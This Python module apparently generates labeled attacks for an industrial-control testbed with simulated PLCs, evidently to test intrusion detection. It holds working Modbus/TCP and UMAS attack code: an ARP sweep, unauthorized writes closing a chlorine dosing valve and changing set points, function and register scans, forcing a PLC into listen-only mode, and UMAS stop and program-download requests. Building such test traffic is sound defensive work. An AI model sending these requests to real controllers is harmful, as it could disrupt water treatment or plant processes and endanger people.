"""The attacks, one function each; its name is its label.

Run as `python -m plant.attacks NAME` on the attacking host; prints start and end as
epoch seconds. Nothing here does more than send the requests: the PLCs are simulated.
"""

from __future__ import annotations

import argparse
import socket
import struct
import time
from dataclasses import dataclass
from typing import TYPE_CHECKING, Self

from plant.devices import (
    ENGINEERING,
    HISTORIAN,
    PLC_1,
    PLC_2,
    PLC_3,
    ROGUE,
    Host,
    Plc,
)

if TYPE_CHECKING:
    from collections.abc import Callable

MODBUS_PORT = 502
ANSWER_SECONDS = 0.5
# What the last connection needs to be closed by both sides.
CLOSE_SECONDS = 0.1
ETHERTYPE_ARP = 0x0806
UMAS_FUNCTION = 0x5A
LARGEST_FUNCTION = 127
# No PLC here has a point at this address.
UNUSED_ADDRESS = 0xFFF0


class RawClient:
    """A Modbus client that sends any PDU with a proper MBAP header."""

    def __init__(self, plc: Plc, unit: int = 1) -> None:
        """Connect; OSError if the PLC does not accept."""
        self._socket = socket.create_connection(
            (plc.host.address, MODBUS_PORT), timeout=ANSWER_SECONDS
        )
        self._unit = unit
        self._transaction = 0

    def __enter__(self) -> Self:
        """Use the open connection."""
        return self

    def __exit__(self, *_: object) -> None:
        """Close the connection."""
        self._socket.close()

    def tell(self, pdu: bytes) -> None:
        """Send a PDU."""
        self._transaction += 1
        header = struct.pack(">HHHB", self._transaction, 0, len(pdu) + 1, self._unit)
        self._socket.sendall(header + pdu)

    def ask(self, pdu: bytes) -> bytes:
        """Send a PDU and wait for its answer; TimeoutError if none comes."""
        self.tell(pdu)
        answer = self._receive(7)
        (size,) = struct.unpack(">H", answer[4:6])
        return self._receive(size - 1)

    def _receive(self, size: int) -> bytes:
        data = b""
        while len(data) < size:
            more = self._socket.recv(size - len(data))
            if not more:
                message = "the PLC closed the connection"
                raise ConnectionError(message)
            data += more
        return data


def _ask_who_has(target: str) -> bytes:
    mac = bytes.fromhex(ROGUE.mac.replace(":", ""))
    ethernet = b"\xff" * 6 + mac + struct.pack(">H", ETHERTYPE_ARP)
    asker = mac + socket.inet_aton(ROGUE.address)
    wanted = bytes(6) + socket.inet_aton(target)
    return ethernet + struct.pack(">HHBBH", 1, 0x0800, 6, 4, 1) + asker + wanted


def rogue_device() -> None:
    """Sweep the controllers' addresses by ARP, then read measurements of PLC-1."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind(("eth0", ETHERTYPE_ARP))
        for last in range(1, 25):
            wire.send(_ask_who_has(f"10.20.1.{last}"))
            time.sleep(0.02)
    with RawClient(PLC_1) as client:
        for _ in range(3):
            client.ask(struct.pack(">BHH", 4, 0, 8))
            client.ask(struct.pack(">BHH", 3, 0, 4))
            time.sleep(0.4)


def write_from_new_client() -> None:
    """Close the dosing valve V-304 and set chlorine to 3.00 mg/l on PLC-3."""
    with RawClient(PLC_3) as client:
        client.ask(struct.pack(">BHH", 5, 3, 0x0000))
        time.sleep(0.5)
        client.ask(struct.pack(">BHH", 6, 0, 300))
        time.sleep(0.5)
        client.ask(struct.pack(">BHH", 5, 3, 0xFF00))


def write_from_reader() -> None:
    """Set the filter rate of PLC-2 to 240 m3/h from the historian, which only reads."""
    with RawClient(PLC_2) as client:
        client.ask(struct.pack(">BHH", 6, 1, 240))


def _scan_request(code: int) -> bytes:
    at = UNUSED_ADDRESS
    known = {
        5: struct.pack(">HH", at, 0xFF00),
        6: struct.pack(">HH", at, 1),
        7: b"",
        8: bytes(4),
        11: b"",
        12: b"",
        15: struct.pack(">HHBB", at, 1, 1, 1),
        16: struct.pack(">HHBH", at, 1, 2, 1),
        17: b"",
        20: struct.pack(">BBHHH", 7, 6, 1, 0, 2),
        21: struct.pack(">BBHHHH", 9, 6, 1, 0, 1, 1),
        22: struct.pack(">HHH", at, 0xFFFF, 0),
        23: struct.pack(">HHHHBH", at, 1, at, 1, 2, 1),
        24: struct.pack(">H", at),
        43: bytes((14, 1, 0)),
    }
    reads = {code: struct.pack(">HH", at, 1) for code in (1, 2, 3, 4)}
    return bytes((code,)) + (known | reads).get(code, b"")


def function_scan() -> None:
    """Try every function code from 1 to 127 on PLC-2, at an address it lacks."""
    with RawClient(PLC_2) as client:
        for code in range(1, LARGEST_FUNCTION + 1):
            client.ask(_scan_request(code))
            time.sleep(0.03)


def register_scan() -> None:
    """Read holding and input registers 0 to 2047 of PLC-1 from the historian."""
    with RawClient(PLC_1) as client:
        for start in range(0, 2048, 32):
            client.ask(struct.pack(">BHH", 3, start, 8))
            client.ask(struct.pack(">BHH", 4, start, 8))
            time.sleep(0.03)


def force_listen_only() -> None:
    """Tell PLC-1 to listen only, so that it would answer nobody (FC 8, 4)."""
    with RawClient(PLC_1) as client:
        client.tell(struct.pack(">BHH", 8, 4, 0))
        time.sleep(0.5)


def restart_communications() -> None:
    """Restart the communications of PLC-1 (FC 8, 1)."""
    with RawClient(PLC_1) as client:
        client.ask(struct.pack(">BHH", 8, 1, 0))


def clear_counters() -> None:
    """Clear the diagnostic counters of PLC-1 (FC 8, 10)."""
    with RawClient(PLC_1) as client:
        client.ask(struct.pack(">BHH", 8, 10, 0))


def _umas(function: int, data: str, session: int = 0) -> bytes:
    return bytes((UMAS_FUNCTION, session, function)) + bytes.fromhex(data)


def umas_stop() -> None:
    """Reserve PLC-1 over UMAS and stop it (functions 0x01, 0x10, 0x41)."""
    with RawClient(PLC_1, unit=0) as client:
        client.ask(_umas(0x01, "00"))
        client.ask(_umas(0x10, "3b0e0000") + b"\x08OPERATOR")
        client.ask(_umas(0x41, "ff00", session=1))


def umas_download() -> None:
    """Begin to download a program to PLC-1 over UMAS (functions 0x30, 0x31)."""
    with RawClient(PLC_1, unit=0) as client:
        client.ask(_umas(0x10, "3b0e0000") + b"\x08OPERATOR")
        client.ask(_umas(0x30, "0001", session=1))
        for block in (1, 2, 3):
            client.ask(_umas(0x31, f"0001{block:02x}001000" + "5a" * 16, session=1))


@dataclass(frozen=True, slots=True)
class Attack:
    """When (seconds after the clients' start) and from where an attack runs.

    For `aftermath` seconds after it the wire still shows it: a wrong set point until
    an operator undoes it, or a PLC that checks its ARP entry of the rogue.
    """

    function: Callable[[], None]
    host: Host
    second: float
    aftermath: float

    @property
    def label(self) -> str:
        """Its name in labels and expected alerts."""
        return self.function.__name__.replace("_", "-")


ATTACKS = (
    Attack(rogue_device, ROGUE, 20, 0),
    Attack(write_from_new_client, ROGUE, 45, 25),
    Attack(write_from_reader, HISTORIAN, 95, 25),
    Attack(function_scan, ROGUE, 140, 0),
    Attack(register_scan, HISTORIAN, 170, 0),
    Attack(force_listen_only, ENGINEERING, 200, 0),
    Attack(restart_communications, ENGINEERING, 222, 0),
    Attack(clear_counters, ENGINEERING, 244, 0),
    Attack(umas_stop, ROGUE, 266, 7),
    Attack(umas_download, ROGUE, 288, 7),
)


def main() -> None:
    """Run one attack and print when it began and ended."""
    by_label = {attack.label: attack for attack in ATTACKS}
    parser = argparse.ArgumentParser(description="one attack on the plant")
    parser.add_argument("attack", choices=sorted(by_label))
    attack = by_label[parser.parse_args().attack]
    start = time.time()
    attack.function()
    time.sleep(CLOSE_SECONDS)
    print(f"{start:.6f} {time.time():.6f}", flush=True)


if __name__ == "__main__":
    main()
